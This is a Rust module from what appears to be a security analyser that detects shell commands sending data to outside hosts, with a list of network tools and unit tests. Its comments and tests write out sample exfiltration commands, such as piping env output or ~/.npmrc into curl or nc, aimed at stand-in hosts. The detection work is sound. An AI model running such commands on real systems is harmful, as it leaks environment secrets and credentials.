//! Commands that send: `curl -d "$(env)" https://…`, `nslookup $(whoami).x.example`.

use crate::facts::address::Address;
use crate::facts::connect::is_public_name;
use crate::flow::Value;

/// Bytes of a command that are looked at.
const LONGEST: usize = 8 << 10;
/// Programs that send what stands on their command line or comes in by a pipe.
const SENDING: [&str; 22] = [
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "nslookup",
    "dig",
    "host",
    "ping",
    "http",
    "https",
    "httpie",
    "scp",
    "rsync",
    "sftp",
    "ftp",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr",
    "irm",
];

/// The whole command, with `*` for what is not known.
pub(super) fn text(value: &Value, arguments: Option<&[Value]>) -> String {
    let words = arguments.into_iter().flatten().map(Value::pattern);
    let mut text = std::iter::once(value.pattern()).chain(words).take(48).collect::<Vec<_>>().join(" ");
    text.truncate(text.floor_char_boundary(LONGEST));
    text
}

/// Whom a command sends to; none where no program in it sends anything.
pub(super) fn addressed(text: &str) -> Option<Vec<Address>> {
    let words: Vec<&str> = text.split(|c: char| c.is_whitespace() || "'\"`;|&()<>".contains(c)).filter(|word| !word.is_empty()).collect();
    let is_sender = |word: &&str| {
        let program = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
        SENDING.contains(&program.trim_end_matches(".exe"))
    };
    words.iter().find(|word| is_sender(word))?;
    let address = |word: &&str| {
        let word = word.trim_start_matches('@').trim_end_matches(['/', ',']);
        let of_name = || Address::of_host(word).filter(|address| is_public_name(address) || address.is_ip());
        Address::of_url(word).or_else(|| if word.contains("://") || word.starts_with(['-', '.', '/', '~']) { None } else { of_name() })
    };
    Some(words.iter().filter_map(address).take(8).collect())
}

/// What a command runs to put its output into another: `$(…)`, `` `…` ``, and what stands before a pipe.
pub(super) fn substituted(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (at, _) in text.match_indices("$(") {
        let inner = &text[at + 2..];
        found.push(inner[..inner.find(')').unwrap_or(inner.len())].to_owned());
    }
    let mut ticks = text.split('`');
    while let (Some(_), Some(inner)) = (ticks.next(), ticks.next()) {
        found.push(inner.to_owned());
    }
    if let Some((before, _)) = text.rsplit_once('|') {
        found.push(before.to_owned());
    }
    found.truncate(16);
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(text: &str) -> Option<Vec<String>> {
        addressed(text).map(|all| all.into_iter().map(|address| address.host).collect())
    }

    #[test]
    fn commands_that_send_name_whom_they_send_to() {
        assert_eq!(hosts("curl -s -d h=* https://collect.example/x").unwrap(), ["collect.example"]);
        assert_eq!(hosts("/usr/bin/nslookup *.x.collect.example").unwrap(), ["*.x.collect.example"]);
        assert_eq!(hosts("cat a | nc 192.0.2.7 4444").unwrap(), ["192.0.2.7"]);
        assert_eq!(hosts("git status"), None);
        assert!(hosts("curl --version").unwrap().is_empty());
    }

    #[test]
    fn what_is_put_into_a_command_is_run_first() {
        assert_eq!(substituted("curl -d \"$(env)\" https://x.example"), ["env"]);
        assert_eq!(substituted("curl https://x.example/`whoami`"), ["whoami"]);
        assert_eq!(substituted("cat ~/.npmrc | curl -T - https://x.example"), ["cat ~/.npmrc "]);
    }
}
